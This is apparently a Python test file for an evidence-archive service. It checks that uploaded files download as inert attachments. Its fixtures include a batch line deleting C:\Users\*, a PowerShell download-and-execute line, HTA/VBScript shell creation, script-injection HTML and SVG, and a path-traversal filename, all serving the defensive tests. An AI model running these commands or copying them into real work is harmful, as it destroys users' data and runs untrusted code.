"""An archived evidence copy downloads under a name and type that cannot run (issue 11, finding 7).

Allowed types (images, video, PDF, plain text, web archives) get the extension of what the bytes
are; anything else (HTML, SVG, XML) ends in .bin as application/octet-stream. Always an
attachment, never sniffed by the browser.
"""

from __future__ import annotations

import io
import zipfile
from typing import Any

import pytest
from sqlmodel import select
from support import PNG

from pow_registry.models import CaptureReport
from pow_registry.services import registry
from pow_registry.services.archive import EvidenceStore, download_as, sniff_media_type
from pow_registry.services.errors import FieldErrors

JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x00" * 32
PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n"
HTML = b"<!doctype html><html><script>alert(document.cookie)</script></html>"
HTA = b'<html><head><HTA:APPLICATION ID="app"/><script language="VBScript">CreateObject("WScript.Shell")</script>'
BARE_HTA = b'<HTA:APPLICATION ID="app"/>\r\n<script language="VBScript">CreateObject("WScript.Shell")</script>'
BAT = b"@echo off\r\ndel /q C:\\Users\\*\r\n"
PS1 = b"Invoke-WebRequest -Uri https://example.org/x -OutFile x.exe; Start-Process x.exe\n"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>'
XML_SVG = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
MHTML = (b"From: <Saved by Blink>\r\nSnapshot-Content-Location: https://example.org/post/1\r\n"
         b"Subject: post\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related;\r\n\ttype=\"text/html\";\r\n"
         b"\tboundary=\"----MultipartBoundary--x\"\r\n\r\n------MultipartBoundary--x\r\n")
WARC = b"WARC/1.1\r\nWARC-Type: warcinfo\r\n\r\n"


def wacz(with_datapackage: bool = True) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        if with_datapackage:
            archive.writestr("datapackage.json", '{"profile": "data-package"}')
        archive.writestr("archive/data.warc", WARC.decode())
    return buffer.getvalue()


@pytest.mark.parametrize(("uploaded", "data", "served", "content_type"), [
    # Cannot run: saved as .bin, or as plain text.
    ("run.hta", HTA, "run.hta.bin", "application/octet-stream"),
    ("run.hta", BARE_HTA, "run.txt", "text/plain; charset=utf-8"),
    ("setup.bat", BAT, "setup.txt", "text/plain; charset=utf-8"),
    ("update.ps1", PS1, "update.txt", "text/plain; charset=utf-8"),
    ("page.html", HTML, "page.html.bin", "application/octet-stream"),
    ("image.svg", SVG, "image.svg.bin", "application/octet-stream"),
    ("image.svg", XML_SVG, "image.svg.bin", "application/octet-stream"),
    ("photo.jpg.exe", JPEG, "photo.jpg", "image/jpeg"),
    ("photo.jpg.exe", BAT, "photo.txt", "text/plain; charset=utf-8"),
    ("photo.png.html", HTML, "photo.png.html.bin", "application/octet-stream"),
    # Allowed: the extension of what the bytes are, whatever the upload was called.
    ("frame.png", PNG, "frame.png", "image/png"),
    ("frame.PNG.hta", PNG, "frame.png", "image/png"),
    ("scan.pdf", PDF, "scan.pdf", "application/pdf"),
    ("scan", PDF, "scan.pdf", "application/pdf"),
    ("post.mhtml", MHTML, "post.mhtml", "multipart/related"),
    ("post.warc", WARC, "post.warc", "application/warc"),
    ("crawl.wacz", wacz(), "crawl.wacz", "application/wacz"),
])
def test_the_download_name_and_type_come_from_the_bytes(uploaded: str, data: bytes, served: str,
                                                         content_type: str) -> None:
    assert download_as(data, uploaded, "evidence-1") == (served, content_type)


def test_a_name_with_nothing_left_falls_back() -> None:
    assert download_as(PNG, "...", "evidence-7") == ("evidence-7.png", "image/png")
    assert download_as(HTML, None, "evidence-7") == ("evidence-7.bin", "application/octet-stream")
    assert download_as(PNG, "../../etc/passwd.png", "evidence-7") == ("passwd.png", "image/png")


def test_a_zip_that_is_not_a_web_archive_is_refused_at_upload(tmp_path: Any) -> None:
    store = EvidenceStore(tmp_path, 10_000)
    assert sniff_media_type(wacz(with_datapackage=False)) is None
    with pytest.raises(FieldErrors):
        store.save(wacz(with_datapackage=False), "tool.jar")
    assert store.save(wacz(), "crawl.wacz").media_type == "application/wacz"


@pytest.mark.parametrize(("uploaded", "data", "served", "content_type"), [
    ("run.hta", HTA, "run.hta.bin", "application/octet-stream"),
    ("setup.bat", BAT, "setup.txt", "text/plain; charset=utf-8"),
    ("update.ps1", PS1, "update.txt", "text/plain; charset=utf-8"),
    ("page.html", HTML, "page.html.bin", "application/octet-stream"),
    ("image.svg", SVG, "image.svg.bin", "application/octet-stream"),
    ("photo.jpg.exe", JPEG, "photo.jpg", "image/jpeg"),
    ("frame.png", PNG, "frame.png", "image/png"),
    ("scan.pdf", PDF, "scan.pdf", "application/pdf"),
])
def test_the_download_view_serves_an_attachment_that_cannot_run(
        app: Any, client: Any, session: Any, audit_key: bytes, make_user: Any, make_person: Any, login: Any,
        uploaded: str, data: bytes, served: str, content_type: str) -> None:
    author = make_user("researcher")
    person = make_person(author)
    report = session.exec(select(CaptureReport).where(CaptureReport.person_id == person.id)).first()
    store = EvidenceStore(app.config["EVIDENCE_DIR"], app.config["EVIDENCE_MAX_BYTES"])
    evidence = registry.add_evidence(session=session, actor=author, audit_key=audit_key, report_id=report.id,
                                     evidence={"url": "https://example.org/post/1", "kind": "post"},
                                     archive=(data, uploaded), store=store)
    login(make_user("staff"))
    response = client.get(f"/registry/evidence/{evidence.id}/archive")
    assert response.status_code == 200
    assert response.data == data
    assert response.headers["Content-Type"] == content_type
    assert response.headers["Content-Disposition"] == f"attachment; filename={served}"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response.headers["Content-Security-Policy"]


def test_a_name_in_cyrillic_survives_as_an_encoded_filename(
        app: Any, client: Any, session: Any, audit_key: bytes, make_user: Any, make_person: Any, login: Any) -> None:
    author = make_user("researcher")
    person = make_person(author)
    report = session.exec(select(CaptureReport).where(CaptureReport.person_id == person.id)).first()
    store = EvidenceStore(app.config["EVIDENCE_DIR"], app.config["EVIDENCE_MAX_BYTES"])
    evidence = registry.add_evidence(session=session, actor=author, audit_key=audit_key, report_id=report.id,
                                     evidence={"url": "https://example.org/post/2", "kind": "photo"},
                                     archive=(PNG, "Выдумкин кадр.png.exe"), store=store)
    login(author)
    disposition = client.get(f"/registry/evidence/{evidence.id}/archive").headers["Content-Disposition"]
    assert disposition.startswith(f"attachment; filename=evidence-{evidence.id}.png;")  # an ASCII fallback
    assert "filename*=UTF-8''%D0%92%D1%8B%D0%B4%D1%83%D0%BC%D0%BA%D0%B8%D0%BD%20%D0%BA%D0%B0%D0%B4%D1%80.png" in disposition
